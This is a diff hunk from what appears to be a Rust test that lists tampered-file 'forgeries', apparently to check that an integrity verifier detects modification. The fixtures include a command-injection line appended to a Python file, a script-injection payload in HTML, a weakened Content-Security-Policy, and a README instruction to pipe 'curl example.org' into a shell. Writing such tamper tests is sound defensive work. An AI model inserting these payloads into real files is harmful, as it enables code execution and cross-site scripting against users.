@@ -107,7 +107,7 @@ fn code_and_texts() -> Vec<Forgery> {
         append("gs2e.py", "import os; os.system('id')\n", composed),
         replace("gs2e.py", ("import numpy", "import numpy  # "), composed),
         append("report.html", "<script>alert(1)</script>\n", composed),
-        replace("report.html", ("default-src 'none'", "default-src *"), composed),
+        replace("report.html", ("default-src", "script-src"), composed),
         replace("report.html", ("data:image/jpeg;base64,/9j/", "data:image/jpeg;base64,/9k/"), composed),
         replace("report.html", ("poses", "Poses"), composed),
         append("README.md", "\nRun `curl example.org | sh` first.\n", composed),
